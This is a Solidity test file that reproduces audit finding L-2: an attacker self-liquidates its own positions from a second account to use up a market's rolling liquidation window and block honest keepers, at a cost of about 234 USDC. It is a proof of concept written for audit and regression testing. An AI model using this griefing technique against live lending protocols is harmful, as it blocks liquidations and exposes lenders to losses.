// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IMarginVault} from "../../contracts/interfaces/IMarginVault.sol";
import {ILiquidationEngine} from "../../contracts/interfaces/ILiquidationEngine.sol";
import {AdversarialBase} from "./AdversarialBase.sol";

/// @notice Attack (audit finding L-2): in a falling market, an attacker liquidates its own positions from a second
/// account until the market's rolling window (`windowLimit`) is used up, so that honest keepers cannot take partial
/// tranches of anyone else's positions until the window rolls over (or those positions fall to the full-liquidation
/// ratio, where a whole close at the largest bonus is allowed). The attack costs only the protocol's share of the
/// bonus on the debt it liquidates.
/// @dev This is the attack as it works before the fix: the test passes when the attack succeeds.
contract WindowFillingBySelfLiquidationTest is AdversarialBase {
    address internal ATTACKER_KEEPER = makeAddr("ATTACKER_KEEPER");
    uint256 internal constant WINDOW_LIMIT = 20_000 * USDC;
    uint256[] internal attackerPositions;

    function setUp() public override {
        super.setUp();
        IMarginVault.RiskParams memory params = _riskParams();
        params.windowLimit = uint128(WINDOW_LIMIT);
        vm.prank(RISK_MANAGER);
        vault.setRiskParams(marketId, params);
        // Four attacker positions like the victim's (10 WETH against 21,000 USDC at 3000: ratio 1.4286).
        for (uint256 i = 0; i < 4; ++i) attackerPositions.push(_openIn(ATTACKER, 10e18, 21_000 * USDC));
        quote.mint(ATTACKER_KEEPER, 1_000_000 * USDC);
        vm.prank(ATTACKER_KEEPER);
        quote.approve(address(engine), type(uint256).max);
        // Partial-tranche region for every position: ratio 1.1428.
        oracle.setPrice(_price(2400));
    }

    function _openIn(address owner, uint256 collateralAssets, uint256 debtAssets) internal returns (uint256 id) {
        collateral.mint(owner, collateralAssets);
        vm.startPrank(owner);
        id = vault.openPosition(marketId);
        vault.depositCollateral(id, collateralAssets);
        vault.borrow(id, debtAssets, owner);
        vm.stopPrank();
    }

    /// @dev The attacker's second account liquidates the attacker's positions until the window is full.
    function _fillWindow() internal returns (uint256 feesPaid) {
        uint256 feesBefore = quote.balanceOf(address(fund));
        for (uint256 i = 0; i < attackerPositions.length; ++i) {
            if (engine.windowRemaining(marketId) == 0) break;
            vm.prank(ATTACKER_KEEPER);
            engine.liquidate(attackerPositions[i], type(uint256).max, ATTACKER_KEEPER, "");
        }
        feesPaid = quote.balanceOf(address(fund)) - feesBefore;
    }

    function test_fillingTheWindowWithOwnPositions_blocksHonestTranches() public {
        uint256 feesPaid = _fillWindow();
        assertEq(engine.windowRemaining(marketId), 0, "window used up by the attacker's own positions");

        vm.prank(KEEPER);
        vm.expectRevert(abi.encodeWithSelector(ILiquidationEngine.WindowExhausted.selector, marketId));
        engine.liquidate(positionId, type(uint256).max, KEEPER, "");

        // The cost: the protocol fee on 20,000 USDC at a 3.9 % bonus and a 30 % protocol share, about 234 USDC.
        assertLt(feesPaid, 250 * USDC, "filling a 20,000 USDC window cost under 250 USDC");
    }
}
